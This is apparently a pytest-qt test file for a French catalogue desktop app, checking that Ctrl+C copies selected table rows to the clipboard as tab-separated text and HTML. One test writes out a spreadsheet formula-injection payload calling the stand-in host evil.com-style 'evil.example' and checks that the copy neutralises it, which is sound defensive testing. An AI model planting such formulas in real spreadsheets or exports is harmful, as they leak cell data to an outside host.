"""« Copier » (Ctrl+C, Édition menu, the rows' menu): the selected rows as a table on the clipboard, tab-separated
text and HTML, the visible columns in their on-screen order; text fields keep their own Ctrl+C."""

from __future__ import annotations

import html
import threading
from collections.abc import Iterator

import pytest
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot

from stewarddesk.catalogue import Catalogue
from stewarddesk.errors import Cancelled
from stewarddesk.exporting import cells as exporting_cells
from stewarddesk.gui import row_copy
from stewarddesk.gui.browser import BrowserPage
from stewarddesk.gui.display import COLUMNS
from stewarddesk.gui.grid import EntryTable
from stewarddesk.gui.main_window import MainWindow
from stewarddesk.gui.review_queue import ReviewQueuePage
from stewarddesk.progress import CancelToken

from .conftest import TODAY, show_page, wait_idle

OFFERS_HEADER = "Alertes\tOffre\tStructure\tRevue le\tBesoin\tStades\tFilières\tSite\tStatut"
PRET = "À revoir; Incomplète\tPrêt d'honneur innovation\tMarseille Innovation\t10/01/2024\tFinancement\tCréation\tSanté\t\tActive"
FAB_LAB = "À revoir\tFab lab du CISAM\tCISAM\t02/01/2025\tPrototypage / fab lab\tCréation; Croissance\tNumérique\t\tActive"


def page(window: MainWindow, name: str) -> BrowserPage:
    p = window.pages[name]
    assert isinstance(p, BrowserPage)
    return p


def row_of(browser: BrowserPage, title: str) -> int:
    col = browser.model.column_named("name" if browser.kind == "structures" else "title")
    return [browser.model.index(r, col).data() for r in range(browser.model.rowCount())].index(title)


def click_row(
    qtbot: QtBot, table: EntryTable, row: int, modifier: Qt.KeyboardModifier = Qt.KeyboardModifier.NoModifier
) -> None:
    index = table.model().index(row, 1)
    table.scrollTo(index)
    qtbot.mouseClick(table.viewport(), Qt.MouseButton.LeftButton, modifier, table.visualRect(index).center())


def ctrl_c(qtbot: QtBot, widget: object) -> None:
    qtbot.keyClick(widget, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)


def activate(qtbot: QtBot, window: MainWindow) -> None:
    window.activateWindow()
    qtbot.waitUntil(lambda: QApplication.activeWindow() is window)


def clipboard_text() -> str:
    return QApplication.clipboard().text()


def clipboard_html() -> str:
    mime = QApplication.clipboard().mimeData()
    return mime.html() if mime is not None else ""


@pytest.fixture(autouse=True)
def empty_clipboard() -> Iterator[None]:
    QApplication.clipboard().clear()
    yield
    QApplication.clipboard().clear()


def test_ctrl_c_copies_the_selected_rows_as_a_table(qtbot: QtBot, window: MainWindow) -> None:
    offers = page(window, "offers")
    table = offers.table
    activate(qtbot, window)
    click_row(qtbot, table, row_of(offers, "Fab lab du CISAM"))
    click_row(qtbot, table, row_of(offers, "Prêt d'honneur innovation"), Qt.KeyboardModifier.ControlModifier)
    ctrl_c(qtbot, table)
    # The header is what the grid shows; rows in the grid's order; labels, dates dd/mm/yyyy, lists « ; ».
    assert clipboard_text() == f"{OFFERS_HEADER}\n{FAB_LAB}\n{PRET}\n"
    html = clipboard_html()
    assert html.count("<tr>") == 3
    assert "<th>Alertes</th><th>Offre</th><th>Structure</th><th>Revue le</th>" in html
    assert "<td>Prêt d&#x27;honneur innovation</td><td>Marseille Innovation</td><td>10/01/2024</td>" in html
    assert window.statusBar().currentMessage() == "2 lignes copiées"


def test_the_columns_follow_the_screen(qtbot: QtBot, window: MainWindow) -> None:
    offers = page(window, "offers")
    table = offers.table
    model = offers.model
    header = table.horizontalHeader()
    table.set_column_visible(model.column_named("flags"), False)
    table.set_column_visible(model.column_named("email"), True)
    # « Structure » dragged before « Offre ».
    header.moveSection(
        header.visualIndex(model.column_named("structure")), header.visualIndex(model.column_named("title"))
    )
    activate(qtbot, window)
    click_row(qtbot, table, row_of(offers, "Incubateur Impulse"))
    ctrl_c(qtbot, table)
    assert clipboard_text().splitlines() == [
        "Structure\tOffre\tRevue le\tBesoin\tStades\tFilières\tSite\tStatut\tE-mail",
        "Impulse\tIncubateur Impulse\t01/10/2026\tAccompagnement\tÉmergence; Création\t\t\tActive\tcontact@impulse.example",
    ]
    assert window.statusBar().currentMessage() == "1 ligne copiée"


def test_tabs_and_line_breaks_inside_values_do_not_break_the_table(
    qtbot: QtBot, window: MainWindow, catalogue: Catalogue
) -> None:
    offers = page(window, "offers")
    session = window.session
    assert session is not None
    row = row_of(offers, "Club des dirigeants")
    entry_id = offers.model.id_at(row)
    title = 'Club\tdes "dirigeants"\r\nsaison 2'
    session.undo.update("offers", entry_id, {"title": title, "structure": '"Impulse" Provence'})
    assert catalogue.get("offers", entry_id)["title"] == title
    wait_idle(qtbot, window)
    activate(qtbot, window)
    offers.table.select_ids([entry_id], entry_id)
    offers.table.setFocus()
    ctrl_c(qtbot, offers.table)
    lines = clipboard_text().split("\n")
    assert len(lines) == 3 and lines[2] == ""  # the header, one row, the final line end
    cells = lines[1].split("\t")
    assert len(cells) == 9
    assert cells[1] == 'Club des "dirigeants" saison 2'
    # A cell that starts with a quote is quoted as spreadsheets write it, or they would drop the quotes.
    assert cells[2] == '"""Impulse"" Provence"'
    assert "<td>Club des &quot;dirigeants&quot; saison 2</td>" in clipboard_html()


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_copied_as_text(
    qtbot: QtBot, window: MainWindow, catalogue: Catalogue
) -> None:
    """Pasted text is read as if typed: « =HYPERLINK(…) » would run. Same rule as the CSV export (OWASP):
    a leading « ' », in the text and in the HTML; other values are untouched."""
    offers = page(window, "offers")
    session = window.session
    assert session is not None
    entry_id = offers.model.id_at(row_of(offers, "Club des dirigeants"))
    formula = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
    session.undo.update(
        "offers", entry_id, {"title": formula, "structure": "@Impulse", "site": "-1+2", "status": "active"}
    )
    assert catalogue.get("offers", entry_id)["title"] == formula  # the catalogue keeps the text as typed
    wait_idle(qtbot, window)
    activate(qtbot, window)
    offers.table.select_ids([entry_id], entry_id)
    offers.table.setFocus()
    ctrl_c(qtbot, offers.table)
    qtbot.waitUntil(lambda: clipboard_text() != "")
    header, row = clipboard_text().splitlines()
    cells = dict(zip(header.split("\t"), row.split("\t"), strict=True))
    assert cells["Offre"] == "'" + formula
    assert cells["Structure"] == "'@Impulse"
    assert cells["Site"] == "'-1+2"
    assert cells["Statut"] == "Active" and cells["Besoin"] == "Mise en réseau / événements"
    assert f"<td>{html.escape(chr(39) + formula)}</td>" in clipboard_html()
    assert "<td>'@Impulse</td>".replace("'", "&#x27;") in clipboard_html()
    assert all(exporting_cells.csv_unescape(cells[k]) == v for k, v in (("Offre", formula), ("Site", "-1+2")))


def test_ctrl_c_in_a_text_field_copies_its_text(qtbot: QtBot, window: MainWindow) -> None:
    offers = page(window, "offers")
    activate(qtbot, window)
    qtbot.keyClicks(offers.search, "creche")
    qtbot.waitUntil(lambda: offers.model.rowCount() == 1)
    offers.search.selectAll()
    ctrl_c(qtbot, offers.search)
    assert clipboard_text() == "creche"
    # The form's editor too, and the Édition menu's « Copier » with the focus there.
    offers.table.set_current_row(0)
    editor = offers.form.editors["title"]
    editor.setFocus()
    qtbot.waitUntil(editor.hasFocus)
    editor.setSelection(0, 6)  # « Crèche »
    ctrl_c(qtbot, editor)
    assert clipboard_text() == "Crèche"
    editor.setSelection(0, 2)
    window.action_map["copy"].trigger()
    assert clipboard_text() == "Cr"
    assert "copiée" not in window.statusBar().currentMessage()


def test_copier_is_in_the_edit_menu_and_needs_a_selection(qtbot: QtBot, window: MainWindow) -> None:
    action = window.action_map["copy"]
    assert action in window.menus["edit"].actions()
    assert action.shortcut().toString() == "Ctrl+C"
    assert "Ctrl+C" in window.show_shortcuts().text()
    offers = page(window, "offers")
    offers.table.clearSelection()
    offers.table.setCurrentIndex(offers.model.index(-1, -1))
    offers.table.setFocus()
    action.trigger()
    assert window.statusBar().currentMessage() == "Sélectionnez d'abord une ou plusieurs entrées."
    assert clipboard_text() == ""
    window.set_session(None)
    assert not action.isEnabled()


def test_review_queue_copies_the_reason(qtbot: QtBot, window: MainWindow) -> None:
    show_page(qtbot, window, "review")
    queue = window.pages["review"]
    assert isinstance(queue, ReviewQueuePage)
    offers = queue.lists["offers"]
    offers.table.set_current_row(0)
    offers.table.setFocus()
    activate(qtbot, window)
    ctrl_c(qtbot, offers.table)
    lines = clipboard_text().splitlines()
    assert lines[0] == "Pourquoi la revoir\tOffre\tStructure\tRevue le\tBesoin\tStatut"
    assert lines[1].startswith("Non revue depuis 34 mois; ")  # then why it is incomplete
    assert lines[1].endswith(
        "\tPrêt d'honneur innovation\tMarseille Innovation\t10/01/2024\tFinancement\tActive"
    )


def test_structures_copy(qtbot: QtBot, window: MainWindow) -> None:
    show_page(qtbot, window, "structures")
    structures = page(window, "structures")
    activate(qtbot, window)
    structures.table.selectAll()
    ctrl_c(qtbot, structures.table)
    assert clipboard_text().splitlines() == [
        "Nom\tType\tSite\tSite web\tContact",
        "Aix-Marseille Université\t\t\t\t",
        "CISAM\t\t\t\t",
        "Impulse\t\t\t\t",
        "Marseille Innovation\t\t\t\t",
    ]
    assert window.statusBar().currentMessage() == "4 lignes copiées"


def test_a_big_selection_is_copied_by_the_runner(
    qtbot: QtBot, window: MainWindow, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(row_copy, "SYNC_LIMIT", 10)
    built_on: list[str] = []
    real = row_copy.copy_rows

    def spy(*args: object, **kwargs: object) -> row_copy.CopiedRows:
        built_on.append(threading.current_thread().name)
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(row_copy, "copy_rows", spy)
    show_page(qtbot, window, "actions")
    actions = page(window, "actions")
    activate(qtbot, window)
    actions.table.setFocus()
    qtbot.keyClick(actions.table, Qt.Key.Key_A, Qt.KeyboardModifier.ControlModifier)
    ctrl_c(qtbot, actions.table)
    assert clipboard_text() == ""  # not yet: the runner builds it
    qtbot.waitUntil(lambda: window.statusBar().currentMessage() == "60 lignes copiées")
    lines = clipboard_text().splitlines()
    assert len(lines) == 61
    assert (
        lines[0]
        == "Alertes\tCode\tAction\tStatut\tTemporalité\tType de porteur\tPorteurs\tDate d'adoption\tRevue le"
    )
    assert lines[1].split("\t")[2] == "Action numéro 01"
    assert clipboard_html().count("<tr>") == 61
    assert built_on and built_on[0].startswith("runner")


def test_copy_rows_stops_when_cancelled(window: MainWindow) -> None:
    session = window.session
    assert session is not None
    cancel = CancelToken()
    cancel.cancel()
    ids = session.catalogue.ids("actions")
    with pytest.raises(Cancelled):
        row_copy.copy_rows(
            session.catalogue,
            "actions",
            COLUMNS["actions"],
            ids,
            session.catalogue.settings(),
            TODAY,
            cancel=cancel,
        )
